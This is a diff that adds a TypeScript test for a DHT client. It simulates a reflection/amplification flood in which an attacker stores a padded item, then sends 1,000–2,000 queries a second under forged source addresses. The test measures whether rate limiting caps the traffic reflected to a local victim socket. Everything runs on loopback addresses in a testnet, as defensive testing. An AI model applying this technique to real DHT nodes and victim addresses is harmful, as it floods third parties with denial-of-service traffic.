@@ -1,0 +1,60 @@
+/**
+ * Queries with the forged source of a host that the attacker wants flooded: the answers are longer than the queries. Here the flooded host
+ * is a socket of ours, which counts what arrives.
+ */
+import { randomBytes } from "node:crypto"
+import { Effect, Schedule } from "effect"
+import { addressOf, findString, minuteNow, Speaker, slotOf } from "../attacker/krpc.ts"
+import { type Attack, AttackFailed, atMost } from "../harness/Attack.ts"
+import { startMember, startTestnet } from "../harness/members.ts"
+import { startVictim } from "../harness/Victim.ts"
+
+/** Queries a second in the name of each host. */
+const PER_SECOND = 1_000
+const TICK_MS = 20
+const VALUE_BYTES = 990
+
+/** A host may get so much at once before the limit holds. */
+const BURST_MS = 8_000
+
+export const reflection: Attack = {
+  name: "reflection",
+  about: "1,000 queries a second with a forged source; the answers hit that host",
+  run: Effect.fnUntraced(function* (scale) {
+    const bootstrap = yield* startTestnet()
+    const member = yield* startMember(yield* startVictim(), { bootstrap })
+    const node = addressOf(member.dht)
+    // The attacker's own item makes the answers as long as they can be.
+    const own = yield* Speaker.make("127.5.0.1")
+    const slot = slotOf("reflection", minuteNow())
+    const answer = yield* Effect.promise(() => own.ask(node, "get", { target: slot.target }, 3_000))
+    const token = answer === undefined ? undefined : findString(answer, "token")
+    if (token === undefined) return yield* new AttackFailed({ message: "the DHT client answers no get" })
+    yield* Effect.promise(() => own.ask(node, "put", { ...slot.item(randomBytes(VALUE_BYTES)), token }, 3_000))
+
+    const bytesPerSecond = Effect.fnUntraced(function* (hosts: ReadonlyArray<string>, perSecond: number) {
+      const targets = yield* Effect.forEach(hosts, (host) => Speaker.make(host))
+      let due = 0
+      let next = 0
+      yield* Effect.forkScoped(
+        Effect.sync(() => {
+          for (due += (perSecond * TICK_MS) / 1_000; due >= 1; due--) {
+            targets[next++ % targets.length]!.query(node, "get", { target: slot.target })
+          }
+        }).pipe(Effect.repeat(Schedule.fixed(TICK_MS))),
+      )
+      yield* Effect.sleep(scale.pick(BURST_MS, 4_000))
+      const received = () => targets.reduce((sum, { bytesReceived }) => sum + bytesReceived, 0)
+      const before = received()
+      const begun = performance.now()
+      yield* Effect.sleep(scale.pick(6_000, 3_000))
+      return (1_000 * (received() - before)) / (performance.now() - begun)
+    }, Effect.scoped)
+    const one = yield* bytesPerSecond(["127.5.1.1"], PER_SECOND)
+    const many = yield* bytesPerSecond(
+      Array.from({ length: 60 }, (_, i) => `127.6.${i}.1`),
+      2 * PER_SECOND,
+    )
+    return [atMost("to one host", one / 1_000, "KB/s", 10), atMost("to 60 hosts", many / 1_000, "KB/s", 110)]
+  }),
+}
